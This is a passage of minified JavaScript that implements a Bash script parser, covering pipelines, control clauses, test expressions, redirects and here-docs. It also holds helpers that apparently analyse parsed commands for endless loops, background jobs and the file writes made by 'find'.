this.#u):this.#c=void 0),this.#c}set test(e){this.#c=e??void 0}get update(){return this.#d===null&&(this.#r?this.#d=Jr(this.#r,this.#a,this.#i,this.#o,this.#u):
this.#d=void 0),this.#d}set update(e){this.#d=e??void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,initialize:this.initialize,test:this.test,update:this.
update,body:this.body}}},c_={[b.DoubleSemi]:";;",[b.SemiAmp]:";&",[b.DoubleSemiAmp]:";;&"},d_={">":">",">>":">>","<":"<","<>":"<>","<&":"<&",">&":">&",">|":">|",
"&>":"&>","&>>":"&>>"},et=new Uint8Array(37);et[b.EOF]=1;et[b.RParen]=1;et[b.RBrace]=1;et[b.Then]=1;et[b.Else]=1;et[b.Elif]=1;et[b.Fi]=1;et[b.Do]=1;et[b.Done]=1;
et[b.Esac]=1;et[b.DoubleSemi]=1;et[b.SemiAmp]=1;et[b.DoubleSemiAmp]=1;var ys=new Uint8Array(37);ys[b.RParen]=1;ys[b.RBrace]=1;ys[b.DblRBracket]=1;ys[b.Fi]=1;ys[b.
Done]=1;ys[b.Esac]=1;ys[b.ArithCmd]=1;function dh(t){return t.token===b.Word&&t.keywordEligible&&t.value==="!"}var Fe=new Uint8Array(37);Fe[b.Word]=1;Fe[b.Assignment]=
1;Fe[b.Bang]=1;Fe[b.LParen]=1;Fe[b.LBrace]=1;Fe[b.DblLBracket]=1;Fe[b.If]=1;Fe[b.For]=1;Fe[b.While]=1;Fe[b.Until]=1;Fe[b.Case]=1;Fe[b.Function]=1;Fe[b.Select]=1;
Fe[b.ArithCmd]=1;Fe[b.Coproc]=1;Fe[b.Redirect]=1;var u_={"-a":1,"-b":1,"-c":1,"-d":1,"-e":1,"-f":1,"-g":1,"-h":1,"-k":1,"-p":1,"-r":1,"-s":1,"-t":1,"-u":1,"-v":1,
"-w":1,"-x":1,"-z":1,"-n":1,"-o":1,"-N":1,"-S":1,"-L":1,"-G":1,"-O":1,"-R":1},p_={"==":1,"!=":1,"=~":1,"=":1,"-eq":1,"-ne":1,"-lt":1,"-le":1,"-gt":1,"-ge":1,"-n\
t":1,"-ot":1,"-ef":1,"<":1,">":1},uh=[],f_=[],Cc=[];function Tc(t){return new Bn(t,0,t.length).run()}function m_(t,e,s,r=0,n=!1,o){return new Bn(t,e,s,r,n,void 0,
o).run()}var Ac=class t extends it{boundaries;pending;context;constructor(e,s,r,n,o,i=!0){super(e,s.start,s.end,i,o),this._nestingDepth=s.depth,this.boundaries=
r,this.pending=n,this.context=o}fork(e,s,r=!1){return new t(this.getSource(),{start:e,end:s,depth:this._nestingDepth},this.boundaries,this.pending,this.context,
r)}findSubstitutionEnd(e,s,r=this._nestingDepth+1){let n=this.context.boundaries?.get(e);if(n!==void 0)return n<=s?n:-1;let o=this.boundaries.get(e);return o!==
void 0?o<=s?o:-1:(this.boundaries.has(e)||(this.boundaries.set(e,void 0),this.pending.push({start:e,end:s,depth:r})),-1)}};function h_(t,e,s,r,n){let o=new Map(
[[e,void 0]]),i=[{start:e,end:s,depth:r}];for(;i.length>0;){let a=i.length,l=i[a-1],c=new Ac(t,l,o,i,n),d=new Bn(t,l.start,l.end,l.depth,!0,c).findSubstitutionEnd();
i.length===a&&(o.set(l.start,d),d!==-1&&gc(n).set(l.start,d),i.pop())}return o.get(e)??-1}var Bn=class{tok;source;start;end;depth;errors=null;syntaxDepth=0;constructor(e,s,r,n=0,o=!1,i,a){
this.tok=i??new it(e,s,r,o,Gr(a)),this.tok._nestingDepth=n,this.source=e,this.start=s,this.end=r,this.depth=n}run(){let e=this.start;this.depth>256&&this.error(
"maximum substitution nesting depth exceeded",e);let s;if(e===0&&this.source.charCodeAt(0)===35&&this.source.charCodeAt(1)===33){let o=this.source.indexOf(`
`);s=o===-1?this.source:this.source.slice(0,o)}let r=this.list();for(;;){let o=this.tok.peek(E.CommandStart);if(o.token===b.EOF||(this.unexpectedToken(o),!et[o.
token]&&o.token!==b.In))break;this.tok.next(E.CommandStart);let i=this.tok.peek(E.CommandStart).token;if(i!==b.Semi&&i!==b.Newline&&i!==b.Amp)break;for(;i===b.Semi||
i===b.Newline||i===b.Amp;)this.tok.next(E.CommandStart),i=this.tok.peek(E.CommandStart).token;let a=this.list();for(let l=0;l<a.length;l++)r.push(a[l])}let n=this.
tok._errors;if(n!==null&&n.length>0){let o=this.errors??(this.errors=[]);for(let i=0;i<n.length;i++)o.push(n[i])}return this.errors!==null&&this.errors.length>1&&
this.errors.sort((o,i)=>o.pos-i.pos),{type:"Script",pos:e,end:this.end,shebang:s,commands:r,errors:this.errors??void 0}}error(e,s){(this.errors??(this.errors=[])).
push({message:e,pos:s})}unexpectedToken(e){this.error(`unexpected token '${e.token===b.Newline?"newline":e.value}'`,e.pos)}findSubstitutionEnd(){return this.list(),
this.acceptEnd(b.RParen)}skipSemi(){this.tok.peek(E.Normal).token===b.Semi&&this.tok.next(E.Normal)}accept(e,s=E.Normal){return this.tok.peek(s).token===e?this.
tok.next(s):null}acceptEnd(e,s=E.Normal){return this.tok.peek(s).token===e?this.tok.next(s).end:-1}skipNewlines(e=E.Normal){for(;this.tok.peek(e).token===b.Newline;)
this.tok.next(e)}doBody(e){let s=this.list(),r=e?this.emptyListPos(s):-1;return r>=0&&this.error("expected command after 'do'",r),s}emptyListPos(e){return e.length===
0?this.tok.peek(E.CommandStart).pos:-1}makeStatement(e){return{type:"Statement",pos:e.pos,end:e.end,command:e,background:void 0}}list(){let e=[];this.skipNewlines(
E.CommandStart);let s=this.tok.peek(E.CommandStart).token;if(et[s]||!Fe[s])return e;let r=this.andOr();for(r&&e.push(this.makeStatement(r));s=this.tok.peekFollow(
ys).token,!(s!==b.Semi&&s!==b.Newline&&s!==b.Amp);){let n=s===b.Amp,o=this.tok.next(E.Normal).end;if(n){let a=e[e.length-1];a.background=!0,a.end=o}if(this.skipNewlines(
E.CommandStart),s=this.tok.peek(E.CommandStart).token,et[s]||!Fe[s])break;let i=this.andOr();i&&e.push(this.makeStatement(i))}return e}andOr(){let e=this.pipeline();
if(!e)return null;let s=this.tok.peek(E.Normal).token;if(s!==b.And&&s!==b.Or)return e;let r=[e],n=[];do{let o=this.tok.next(E.Normal),i=o.token===b.And?"&&":"||";
this.skipNewlines(E.CommandStart);let a=this.pipeline();if(!a){this.error(`expected command after '${i}'`,o.end);break}n.push(i),r.push(a),s=this.tok.peek(E.Normal).
token}while(s===b.And||s===b.Or);return{type:"AndOr",pos:e.pos,end:r[r.length-1].end,commands:r,operators:n}}withRedirects(e){let s=this.collectTrailingRedirects();
return s.length===0?e:{type:"Redirected",pos:e.pos,end:s[s.length-1].end,command:e,redirects:s}}pipeline(){let e;for(;;){let n=this.tok.peek(E.CommandStart),o=n.
token===b.Word&&n.keywordEligible&&n.value==="time";if(n.token!==b.Bang&&!o)break;let i=this.tok.next(E.CommandStart),a=i.pos,l=i.end,c,d;if(o){let u=this.tok.peek(
E.CommandStart);u.token===b.Word&&u.keywordEligible&&u.value==="-p"&&(this.tok.next(E.CommandStart),c={pos:u.pos,end:u.end},u=this.tok.peek(E.CommandStart)),u.token===
b.Word&&u.keywordEligible&&u.value==="--"&&(this.tok.next(E.CommandStart),d={pos:u.pos,end:u.end})}e===void 0&&(e=[]),e.push(o?{type:"Time",pos:a,end:d?.end??c?.
end??l,keywordEnd:l,posix:c,endOfOptions:d}:{type:"Negation",pos:a,end:l})}let s=this.pipelineCommands();if(!e)return s;let r=e[0].pos;return s?.type==="Pipelin\
e"?(s.prefixes=e,s.pos=r,s):{type:"Pipeline",pos:r,end:s?s.end:e[e.length-1].end,prefixes:e,commands:s?[s]:[],operators:[]}}pipelineCommands(){let e=this.command();
if(!e)return null;if(this.tok.peek(E.Normal).token!==b.Pipe)return e;let s=[e],r=[];for(;this.tok.peek(E.Normal).token===b.Pipe;){let o=this.tok.next(E.Normal),
i=o.value==="|&"?"|&":"|";this.skipNewlines(E.CommandStart);let a=this.command();if(!a){this.error(`expected command after '${i}'`,o.end);break}r.push(i),s.push(
a)}return s.length===1?s[0]:{type:"Pipeline",pos:e.pos,end:s[s.length-1].end,prefixes:f_,commands:s,operators:r}}command(){let e;switch(this.tok.peek(E.CommandStart).
token){case b.LParen:e=this.subshell();break;case b.LBrace:e=this.braceGroup();break;case b.If:e=this.ifClause();break;case b.For:e=this.forClause();break;case b.
While:e=this.whileClause();break;case b.Until:e=this.untilClause();break;case b.Case:e=this.caseClause();break;case b.Function:return this.functionDef();case b.
Select:e=this.selectClause();break;case b.DblLBracket:e=this.testCommand();break;case b.ArithCmd:e=this.arithCommand();break;case b.Coproc:return this.coprocCommand();case b.
Word:case b.Assignment:case b.Redirect:return this.simpleCommandOrFunction(!1);default:return null}return this.withRedirects(e)}collectTrailingRedirects(){let e=uh;
for(;this.tok.peekFollow(ys).token===b.Redirect;)e===uh&&(e=[]),e.push(this.readRedirect(E.Normal));return e}arithCommand(){let e=this.tok.next(E.CommandStart);
return new Ec(e.pos,e.end,e.value,this.source,this.depth,this.tok.getSubstitutionContext())}coprocCommand(){let e=this.tok.next(E.CommandStart),s=e.pos,r=this.tok.
peek(E.CommandStart),n;if(r.token===b.Word){let a=this.tok.fork(r.end,this.end);switch(a.peek(E.CommandStart).token){case b.LParen:a.next(E.CommandStart),a.peek(
E.Normal).token!==b.RParen&&(n=this.readWord(E.CommandStart));break;case b.LBrace:case b.If:case b.For:case b.While:case b.Until:case b.Case:case b.Select:case b.
DblLBracket:case b.ArithCmd:n=this.readWord(E.CommandStart)}}let o=r.token===b.Word&&n===void 0?this.simpleCommandOrFunction(!0):this.command();if(o&&o.type!=="\
Function"&&o.type!=="Coproc")return{type:"Coproc",pos:s,end:o.end,name:n,body:o};this.error("expected command after 'coproc'",o?.pos??e.end);let i=o?this.makeCompoundList(
[this.makeStatement(o)]):{type:"CompoundList",pos:e.end,end:e.end,commands:[]};return{type:"Coproc",pos:s,end:i.end,name:n,body:i}}subshell(){return this.subshellBody(
this.tok.next(E.CommandStart).pos)}subshellBody(e){if(this.syntaxDepth>=256){this.error("maximum subshell nesting depth exceeded",e);let o=this.tok.skipSubshellBody();
o<0&&this.error("expected ')' to close subshell",this.tok.getPos());let i=o>=0?o:e;return{type:"Subshell",pos:e,end:i,body:this.makeCompoundList([])}}this.syntaxDepth++;
let s=this.list();this.syntaxDepth--,s.length===0&&this.error("expected command in subshell",e);let r=this.acceptEnd(b.RParen,E.Normal);r<0&&this.error("expecte\
d ')' to close subshell",this.tok.getPos());let n=r>=0?r:e;return{type:"Subshell",pos:e,end:n,body:this.makeCompoundList(s)}}braceGroup(){let e=this.tok.next(E.
CommandStart).pos;if(this.syntaxDepth>=256){this.error("maximum brace group nesting depth exceeded",e);let o=this.tok.skipCompoundBody(b.RBrace);o<0&&this.error(
"expected '}' to close brace group",this.tok.getPos());let i=o>=0?o:e;return{type:"BraceGroup",pos:e,end:i,body:this.makeCompoundList([])}}this.syntaxDepth++;let s=this.
list();this.syntaxDepth--,s.length===0&&this.error("expected command in brace group",e);let r=this.acceptEnd(b.RBrace,E.Normal);r<0&&this.error("expected '}' to\
 close brace group",this.tok.getPos());let n=r>=0?r:e;return{type:"BraceGroup",pos:e,end:n,body:this.makeCompoundList(s)}}ifClause(){let e=this.tok.next(E.CommandStart).
pos;if(this.syntaxDepth>=256){this.error("maximum if nesting depth exceeded",e);let o=this.tok.skipCompoundBody(b.Fi);o<0&&this.error("expected 'fi' to close 'i\
f'",this.tok.getPos());let i=o>=0?o:e;return{type:"If",pos:e,end:i,clause:this.makeCompoundList([]),then:this.makeCompoundList([]),elif:Cc,else:void 0}}this.syntaxDepth++;
let s,r=e;for(;;){let o=this.list(),i=this.emptyListPos(o),a=this.makeCompoundList(o);this.skipSemi();let l=this.accept(b.Then,E.CommandStart);l?i>=0&&this.error(
`expected command after '${r===e?"if":"elif"}'`,i):this.error("expected 'then'",this.tok.getPos());let c=this.list(),d=this.makeCompoundList(c);l&&c.length===0&&
(this.error("expected command after 'then'",this.tok.peek(E.CommandStart).pos),d.pos=l.end,d.end=l.end),s?(s.elif===Cc&&(s.elif=[]),s.elif.push({type:"Elif",pos:r,
end:d.end,clause:a,then:d})):s={type:"If",pos:e,end:e,clause:a,then:d,elif:Cc,else:void 0},this.skipSemi();let u=this.accept(b.Elif,E.CommandStart);if(!u)break;
r=u.pos}if(this.accept(b.Else,E.CommandStart)){let o=this.list(),i=this.emptyListPos(o);i>=0&&this.error("expected command after 'else'",i),s.else=this.makeCompoundList(
o),this.skipSemi()}let n=this.acceptEnd(b.Fi,E.CommandStart);return n<0&&this.error("expected 'fi' to close 'if'",this.tok.getPos()),s.end=n>=0?n:r,this.syntaxDepth--,
s}forClause(){let e=this.tok.next(E.CommandStart).pos;if(this.tok.peek(E.Normal).token===b.LParen)return this.cStyleFor(e);let s=this.readRequiredWord("for"),r;
if(this.skipNewlines(E.CommandStart),this.tok.peek(E.CommandStart).token===b.In)for(this.tok.next(E.CommandStart),r=[];this.tok.peek(E.Normal).token===b.Word;)r.
push(this.readWord(E.Normal));if(this.skipSemi(),this.skipNewlines(E.CommandStart),this.tok.peek(E.CommandStart).token===b.LBrace){let l=this.braceGroup();return{
type:"For",pos:e,end:l.end,name:s,wordlist:r,body:l.body}}let n=this.accept(b.Do,E.CommandStart)!==null;if(n||this.error("expected 'do'",this.tok.getPos()),this.
syntaxDepth>=256){this.error("maximum for nesting depth exceeded",e);let l=this.tok.skipCompoundBody(b.Done);l<0&&this.error("expected 'done' to close 'for'",this.
tok.getPos());let c=l>=0?l:e;return{type:"For",pos:e,end:c,name:s,wordlist:r,body:this.makeCompoundList([])}}this.syntaxDepth++;let o=this.doBody(n);this.syntaxDepth--,
this.skipSemi();let i=this.acceptEnd(b.Done,E.CommandStart);i<0&&this.error("expected 'done' to close 'for'",this.tok.getPos());let a=i>=0?i:e;return{type:"For",
pos:e,end:a,name:s,wordlist:r,body:this.makeCompoundList(o)}}cStyleFor(e){let[s,r,n,o,i,a]=this.tok.readCStyleForExprs();if(this.tok.peek(E.CommandStart).token===
b.Semi&&this.tok.next(E.CommandStart),this.skipNewlines(E.CommandStart),this.tok.peek(E.CommandStart).token===b.LBrace){let p=this.braceGroup();return new Hn(e,
p.end,p.body,s,r,n,o,i,a,this.source,this.depth,this.tok.getSubstitutionContext())}let l=this.accept(b.Do,E.CommandStart)!==null;if(l||this.error("expected 'do'",
this.tok.getPos()),this.syntaxDepth>=256){this.error("maximum for nesting depth exceeded",e);let p=this.tok.skipCompoundBody(b.Done);p<0&&this.error("expected '\
done' to close 'for'",this.tok.getPos());let f=p>=0?p:e;return new Hn(e,f,this.makeCompoundList([]),s,r,n,o,i,a,this.source,this.depth,this.tok.getSubstitutionContext())}
this.syntaxDepth++;let c=this.doBody(l);this.syntaxDepth--;let d=this.acceptEnd(b.Done,E.CommandStart);d<0&&this.error("expected 'done' to close 'for'",this.tok.
getPos());let u=d>=0?d:e;return new Hn(e,u,this.makeCompoundList(c),s,r,n,o,i,a,this.source,this.depth,this.tok.getSubstitutionContext())}whileClause(){return this.
whileOrUntil("while")}untilClause(){return this.whileOrUntil("until")}whileOrUntil(e){let s=this.tok.next(E.CommandStart).pos;if(this.syntaxDepth>=256){this.error(
`maximum ${e} nesting depth exceeded`,s);let d=this.tok.skipCompoundBody(b.Done);d<0&&this.error(`expected 'done' to close '${e}'`,this.tok.getPos());let u=d>=0?
d:s;return{type:"While",pos:s,end:u,kind:e,clause:this.makeCompoundList([]),body:this.makeCompoundList([])}}this.syntaxDepth++;let r=this.list(),n=this.emptyListPos(
r),o=this.makeCompoundList(r);this.skipSemi();let i=this.accept(b.Do,E.CommandStart)!==null;i?n>=0&&this.error(`expected command after '${e}'`,n):this.error("ex\
pected 'do'",this.tok.getPos());let a=this.doBody(i);this.skipSemi();let l=this.acceptEnd(b.Done,E.CommandStart);l<0&&this.error(`expected 'done' to close '${e}\
'`,this.tok.getPos());let c=l>=0?l:s;return this.syntaxDepth--,{type:"While",pos:s,end:c,kind:e,clause:o,body:this.makeCompoundList(a)}}caseClause(){let e=this.
tok.next(E.CommandStart).pos,s=this.readRequiredWord("case");if(this.skipNewlines(E.CommandStart),this.accept(b.In,E.CommandStart)||this.error("expected 'in' af\
ter 'case' word",this.tok.getPos()),this.skipNewlines(E.CasePattern),this.syntaxDepth>=256){this.error("maximum case nesting depth exceeded",e);let l=this.tok.skipCompoundBody(
b.Esac);l<0&&this.error("expected 'esac' to close 'case'",this.tok.getPos());let c=l>=0?l:e;return{type:"Case",pos:e,end:c,word:s,items:[]}}this.syntaxDepth++;let r=[],
n=!1,o=this.tok.peek(E.CasePattern).token;for(;o!==b.Esac&&o!==b.EOF;){let l=this.tok.peek(E.Normal).pos;this.accept(b.LParen,E.Normal);let c=[],d=!0,u=this.tok.
peek(E.Normal);for(;u.token!==b.RParen&&u.token!==b.EOF;){u.token===(d?b.Word:b.Pipe)?d=!d:n||(this.unexpectedToken(u),n=!0);let $=this.tok.next(E.Normal);$.token===
b.Word&&c.push(this.toWord($)),u=this.tok.peek(E.Normal)}d&&u.token===b.RParen&&!n&&(this.unexpectedToken(u),n=!0);let p=this.acceptEnd(b.RParen,E.Normal),f=this.
list(),m=p>=0?p:c.length>0?c[c.length-1].end:l,h=f.length>0?f[f.length-1].end:m,g={type:"CaseItem",pos:l,end:h,pattern:c,body:f.length>0?this.makeCompoundList(f):
{type:"CompoundList",pos:m,end:m,commands:[]},terminator:void 0},y=this.tok.peek(E.CommandStart);if(o=y.token,o===b.DoubleSemi||o===b.SemiAmp||o===b.DoubleSemiAmp){
let x=this.tok.next(E.CommandStart);g.terminator=c_[x.token],g.end=x.end}else o!==b.Esac&&o!==b.EOF&&!n&&(this.unexpectedToken(y),n=!0);r.push(g),this.skipNewlines(
E.CasePattern),o=this.tok.peek(E.CasePattern).token}let i=this.acceptEnd(b.Esac,E.CommandStart);i<0&&this.error("expected 'esac' to close 'case'",this.tok.getPos());
let a=i>=0?i:e;return this.syntaxDepth--,{type:"Case",pos:e,end:a,word:s,items:r}}selectClause(){let e=this.tok.next(E.CommandStart).pos,s=this.readRequiredWord(
"select"),r;if(this.skipNewlines(E.CommandStart),this.tok.peek(E.CommandStart).token===b.In)for(this.tok.next(E.CommandStart),r=[];this.tok.peek(E.Normal).token===
b.Word;)r.push(this.readWord(E.Normal));if(this.skipSemi(),this.skipNewlines(E.CommandStart),this.tok.peek(E.CommandStart).token===b.LBrace){let l=this.braceGroup();
return{type:"Select",pos:e,end:l.end,name:s,wordlist:r,body:l.body}}let n=this.accept(b.Do,E.CommandStart)!==null;if(n||this.error("expected 'do'",this.tok.getPos()),
this.syntaxDepth>=256){this.error("maximum select nesting depth exceeded",e);let l=this.tok.skipCompoundBody(b.Done);l<0&&this.error("expected 'done' to close '\
select'",this.tok.getPos());let c=l>=0?l:e;return{type:"Select",pos:e,end:c,name:s,wordlist:r,body:this.makeCompoundList([])}}this.syntaxDepth++;let o=this.doBody(
n);this.syntaxDepth--,this.skipSemi();let i=this.acceptEnd(b.Done,E.CommandStart);i<0&&this.error("expected 'done' to close 'select'",this.tok.getPos());let a=i>=
0?i:e;return{type:"Select",pos:e,end:a,name:s,wordlist:r,body:this.makeCompoundList(o)}}testCommand(){let e=this.tok.next(E.CommandStart).pos,s=this.parseTestOr(),
r=this.acceptEnd(b.DblRBracket,E.TestMode);r<0&&this.error("expected ']]' to close '[['",this.tok.getPos());let n=r>=0?r:e;return{type:"TestCommand",pos:e,end:n,
expression:s}}parseTestOr(){let e=this.parseTestAnd();if(this.tok.peek(E.TestMode).token!==b.Or)return e;let s=[e];do this.tok.next(E.TestMode),s.push(this.parseTestAnd());while(this.
tok.peek(E.TestMode).token===b.Or);return{type:"TestLogical",pos:e.pos,end:s[s.length-1].end,operator:"||",operands:s}}parseTestAnd(){let e=this.parseTestNot();
if(this.tok.peek(E.TestMode).token!==b.And)return e;let s=[e];do this.tok.next(E.TestMode),s.push(this.parseTestNot());while(this.tok.peek(E.TestMode).token===b.
And);return{type:"TestLogical",pos:e.pos,end:s[s.length-1].end,operator:"&&",operands:s}}parseTestNot(){let e=this.tok.peek(E.TestMode);if(!dh(e))return this.parseTestPrimary();
let s=[];for(;dh(e);){let n=this.tok.next(E.TestMode);s.push({type:"Negation",pos:n.pos,end:n.end}),e=this.tok.peek(E.TestMode)}let r=this.parseTestPrimary();return{
type:"TestNot",pos:s[0].pos,end:r.end,negations:s,operand:r}}parseTestPrimary(){if(this.tok.peek(E.TestMode).token===b.LParen){let a=this.tok.next(E.TestMode).pos;
if(this.syntaxDepth>=256){this.error("maximum test group nesting depth exceeded",a);let u=this.tok.skipTestGroup();u<0&&this.error("expected ')' to close test g\
roup",this.tok.getPos());let p=u>=0?u:a,f=new je("",a,a);return{type:"TestGroup",pos:a,end:p,expression:{type:"TestUnary",pos:a,end:a,operator:"-n",operand:f}}}
this.syntaxDepth++;let l=this.parseTestOr();this.syntaxDepth--;let c=this.acceptEnd(b.RParen,E.TestMode);c<0&&this.error("expected ')' to close test group",this.
tok.getPos());let d=c>=0?c:a;return{type:"TestGroup",pos:a,end:d,expression:l}}let e=this.tok.next(E.TestMode);(e.token===b.And||e.token===b.Or)&&this.unexpectedToken(
e);let s=e.value,r=e.pos,n=e.end;if(e.keywordEligible&&u_[s]===1){if(this.tok.peek(E.TestMode).token===b.Word){let l=this.readTestOperand();return{type:"TestUna\
ry",pos:r,end:l.end,operator:s,operand:l}}this.error("expected operand after unary test operator",n);let a=new je("",n,n);return{type:"TestUnary",pos:r,end:n,operator:s,
operand:a}}let o=this.tok.peek(E.TestMode);if(o.token===b.Word&&o.keywordEligible&&p_[o.value]===1){let a=this.tok.next(E.TestMode).value,l;if(a==="=~"){let d=this.
tok.readTestRegexWord();l=new je(this.source.slice(d.pos,d.end),d.pos,d.end,this.source,Wi(this.tok.getSubstitutionContext()),this.depth)}else l=this.readTestOperand();
let c=this.toWordFromPosEnd(e,r,n);return{type:"TestBinary",pos:r,end:l.end,operator:a,left:c,right:l}}let i=this.toWordFromPosEnd(e,r,n);return{type:"TestUnary",
pos:r,end:i.end,operator:"-n",operand:i}}readTestOperand(){let e=this.tok.next(E.TestMode);return e.keywordEligible&&(e.value==="<"||e.value===">")&&this.error(
`unexpected argument '${e.value}' to conditional operator`,e.pos),this.toWord(e)}functionDef(){let e=this.tok.next(E.CommandStart).pos,s=this.readWord(E.FunctionName),
r;if(this.tok.peek(E.CommandStart).token===b.LParen){let n=this.tok.next(E.CommandStart).pos;this.tok.peek(E.CommandStart).token===b.RParen?(this.tok.next(E.CommandStart),
this.skipNewlines(E.CommandStart),r=this.commandAsBody()):r=this.withRedirects(this.subshellBody(n))}else this.skipNewlines(E.CommandStart),r=this.commandAsBody();
return{type:"Function",pos:e,end:r.end,name:s,body:r}}simpleCommandOrFunction(e){let s=[],r=this.tok.peek(E.CommandStart).pos,n=r,o=E.CommandStart;for(;;){let d=this.
tok.peek(o).token;if(d===b.Assignment){let u=this.tok.next(o);n=u.end,s.push(this.parseAssignment(u))}else if(d===b.Redirect){let u=this.readRedirect(o);s.push(
u),n=u.end}else break;o=E.CommandPrefix}if(this.tok.peek(E.Normal).token!==b.Word)return new Vn(r,n,void 0,s,[]);let i=this.tok.next(E.Normal),a=i.keywordEligible?
i.value:"",l=this.toWord(i);o=l_(a)?E.Declaration:a==="eval"||a==="let"?E.EvalArgument:E.Normal,n=l.end;let c=[];if(e)for(;this.tok.peek(E.CommandPrefix).token===
b.Assignment;){let d=this.tok.next(E.CommandPrefix),u=o===E.Declaration?this.parseAssignment(d):this.toWord(d);c.push(u),n=u.end}if(this.tok.peek(o).token===b.LParen&&
c.length===0&&(this.tok.next(E.Normal),this.tok.peek(E.Normal).token===b.RParen)){this.tok.next(E.Normal),this.skipNewlines(E.CommandStart);let d=this.commandAsBody();
return{type:"Function",pos:l.pos,end:d.end,name:l,body:d}}for(;;){let d=this.tok.peek(o).token;if(d===b.Word||d===b.Assignment){let u=this.tok.next(o),p=d===b.Assignment?
this.parseAssignment(u):this.toWord(u);c.push(p),n=p.end}else if(d===b.Redirect){let u=this.readRedirect(o);c.push(u),n=u.end}else break}return new Vn(r,n,l,s,c)}readRedirect(e){
let s=this.tok.next(e),r=s.pos,n=s.end,o=s.fileDescriptor!==void 0?{type:"FileDescriptor",pos:r,end:s.descriptorEnd,value:s.fileDescriptor}:s.variableName!==void 0?
{type:"FileDescriptorVariable",pos:r,end:s.descriptorEnd,name:s.variableName}:void 0,i=s.targetEnd>s.targetPos;if(i||this.error("expected redirect target",s.targetPos),
s.value==="<<"||s.value==="<<-"){let l={type:"HereDoc",pos:r,end:n,operator:s.value,descriptor:o,delimiter:i?{type:"HereDocDelimiter",pos:s.targetPos,end:s.targetEnd,
text:this.source.slice(s.targetPos,s.targetEnd),value:s.content??"",quoted:s.delimiterQuoted}:void 0,body:new Fi(this.source,n,s.delimiterQuoted,this.depth,this.
tok.getSubstitutionContext()),closing:void 0};return i&&this.tok.registerHereDocTarget(l),l}let a=i?new je(this.source.slice(s.targetPos,s.targetEnd),s.targetPos,
s.targetEnd,this.source,yr(this.tok.getSubstitutionContext()),this.depth):void 0;return s.value==="<<<"?{type:"HereString",pos:r,end:n,operator:"<<<",descriptor:o,
target:a}:{type:"Redirect",pos:r,end:n,operator:d_[s.value]??">",descriptor:o,target:a}}commandAsBody(){let e=this.command();return e&&e.type!=="Command"&&e.type!==
"Function"&&e.type!=="Coproc"?e:(this.error("expected compound command as function body",e?.pos??this.tok.getPos()),this.makeCompoundList(e?[this.makeStatement(
e)]:[]))}readWord(e){return this.toWord(this.tok.next(e))}readRequiredWord(e){let s=this.tok.peek(E.Normal);return s.token===b.Word?this.toWord(this.tok.next(E.
Normal)):(s.token!==b.EOF&&this.error(`expected word after '${e}'`,s.pos),new je("",s.pos,s.pos))}toWord(e){let s=e.raw?e.value:this.source.slice(e.pos,e.end),r=e.
raw&&e.keywordEligible?void 0:this.source;return new je(s,e.pos,e.end,r,r===void 0?ji:yr(this.tok.getSubstitutionContext()),this.depth)}toWordFromPosEnd(e,s,r){
return e.pos===s&&e.end===r?this.toWord(e):new je(this.source.slice(s,r),s,r,this.source,yr(this.tok.getSubstitutionContext()),this.depth)}parseAssignment(e){let s=e.
raw?e.value:this.source.slice(e.pos,e.end);return new Mi(s,e.pos,e.end,this.source,e.assignmentOperatorPos,this.depth,this.tok.getSubstitutionContext())}makeCompoundList(e){
let s=this.tok.getPos(),r=e.length>0?e[0].pos:s,n=e.length>0?e[e.length-1].end:s;return{type:"CompoundList",pos:r,end:n,commands:e}}};var{forms:Ui}=S;function ph(t,e){return(t.type==="ArithmeticFor"?t.test===void 0:g_(t)||t.kind==="while"&&Pc(e))&&mh(t.body)&&!hh(t.body)}function fh(t,e){let s=[];
return jn(t,r=>{s.push(r)}),s.some(e)}var mh=t=>t.type==="Statement"&&t.background===!0||t.type!=="Function"&&fh(t,mh),hh=t=>t.type==="Command"&&Ui.waiting_command.
test(t.name?.text??"")||t.type!=="Function"&&!(t.type==="Statement"&&t.background)&&fh(t,hh);function g_({kind:t,clause:e}){let s=e.commands.length===1?e.commands[0].
command:void 0;if(s?.type==="ArithmeticCommand")return t==="while"&&/^\s*[1-9]\d*\s*$/.test(s.body);if(s?.type!=="Command")return!1;let r=[s.name?.text??"",...s.
args.map(({text:n})=>n)].join(" ");return t==="while"?Ui.always_true.test(r):Ui.always_false.test(r)}function Pc(t){let e=t?.kind==="pipe"?t.from.at(-1):void 0;
if(!e||e.wrappers.includes("timeout"))return!1;let{program:s,args:r,redirects:n}=e;return Ui.endless.test(`${s} ${oe([...r,...n.map(({path:o})=>o)]).text}`)}var b_=256,gh=64;function y_(t,e){let s=e.flatMap(({text:r},n)=>{let o=/^(?:!|-not)$/.test(e[n-1]?.text??""),i=/^-i?(name|path|wholename)$/.test(r)&&!o?e[n+1]?.
text:void 0;return i===void 0?[]:[i.slice(i.lastIndexOf("/")+1)]});return t.flatMap(({text:r,glob:n})=>{let o=`${r.replace(/\/+$/,"")}/${"\uFFFC"}`;return s.length===
0?[{text:o,glob:n}]:s.slice(0,8).map(i=>({text:`${o}/${i}`,glob:n||/[*?[]/.test(i)}))})}var Rc=(t,e,{text:s,glob:r})=>({text:t.text.replaceAll(e,()=>s),glob:t.glob||
r&&t.text.includes(e)});function bh(t,e){if(e!==void 0)return xe(t.split(e).filter(r=>r!==""));let s=t.match(/"[^"\n]*"|'[^'\n]*'|\S+/g)??[];return xe(s.map(r=>r.
replace(/^(["'])(.*)\1$/,"$2")))}var yh={"find gfind":t=>{let{args:e}=t,s=e.findIndex(({text:f})=>/^(-(?![HLPOD])|[(!])/.test(f)),r=e.slice(0,s===-1?void 0:s).filter(
({text:f})=>!/^-[HLPOD]/.test(f)),n=s===-1?[]:e.slice(s),o=y_(r.length>0?r:[R(".")],n),i=o.map(({text:f})=>f),a=f=>cm(f,i,r[0]?.text??"."),l=n.flatMap(({text:f},m)=>{
let[h,g]=/^-f(print0?|ls|printf)$/.test(f)?n.slice(m+1):[];return h?[{path:h,text:f==="-fprintf"?a(g?.text??""):De(i)}]:[]}),c=l.map(({path:f})=>({kind:"write",
path:f}));t.redirect(c).record();let d=n.flatMap(({text:f},m)=>{if(!/^-(exec|execdir|ok|okdir)$/.test(f))return[];let g=n.slice(m+1,ci(n,m)).flatMap(x=>x.text===
"{}"?o:[Rc(x,"{}",o[0])]),y=t.consumeInput().with({program:"find"}).runWords(g);return y==="\uFFFC"?[]:[y]});for(let{path:f,text:m}of l)t.write(f.text,m);let u=n.
filter((f,m)=>n[m-1]?.text==="-printf");return(u.length>0?u.map(({text:f})=>a(f)).join(""):De(i))+d.join("")},"fd fdfind":t=>{t.record();let e=t.args.findIndex(
